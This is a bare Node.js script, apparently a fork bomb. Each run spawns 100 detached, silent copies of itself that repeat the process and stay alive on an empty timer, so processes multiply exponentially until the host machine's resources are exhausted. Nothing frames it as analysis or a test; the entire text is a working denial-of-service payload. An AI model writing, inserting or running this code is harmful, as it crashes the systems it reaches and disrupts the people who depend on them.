const { spawn } = require("child_process");
for (let n = 0; n < 100; n++) spawn(process.execPath, [__filename], { detached: true, stdio: "ignore" }).on("error", () => {});
setInterval(() => {}, 1000);
